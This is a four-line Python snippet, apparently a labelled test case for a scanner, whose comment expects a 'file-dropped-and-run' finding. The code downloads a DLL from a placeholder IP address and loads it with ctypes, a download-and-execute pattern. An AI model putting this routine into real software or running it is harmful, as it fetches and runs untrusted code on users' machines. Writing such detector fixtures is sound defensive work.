# expect: 4 file-dropped-and-run
import ctypes, urllib.request
urllib.request.urlretrieve('http://198.51.100.7/x.dll', 'x.dll')
ctypes.WinDLL('x.dll')
